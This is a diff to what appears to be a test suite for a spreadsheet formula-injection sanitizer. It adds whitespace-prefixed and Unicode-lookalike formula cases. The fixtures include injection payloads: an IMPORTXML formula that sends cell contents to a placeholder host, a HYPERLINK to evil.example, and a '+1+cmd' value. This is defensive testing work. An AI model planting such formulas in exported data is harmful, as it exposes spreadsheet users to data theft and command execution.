@@ -35,6 +35,14 @@ FORMULAS = [
     "\uff20SUM(A1)",
     '=IMPORTXML(CONCAT("http://x.example/?", A1), "//a")',
     "=\n1+1",
+    # Blanks before it do not hide one either: a spreadsheet that trims cells reads it.
+    " =1+1",
+    '   =HYPERLINK("http://evil.example","pain 2")',
+    "   +1+cmd",
+    "\u00a0=1+1",  # a no-break space
+    "\n=1+1",
+    "\r\n@SUM(A1)",
+    "\u3000\uff1d1+1",  # an ideographic space, then a full-width equals
 ]
 # Text that is no formula: written exactly as it is.
 PLAIN = [
@@ -47,7 +55,7 @@ PLAIN = [
     "line one\r\nline two",
     "a,b;c",
     "' already quoted",
-    " =1+1",  # a leading space: no formula to a spreadsheet
+    " 1=1",  # blanks before text that is no formula
     "1=1",
     "a-2+3",
     "mail@example.com",
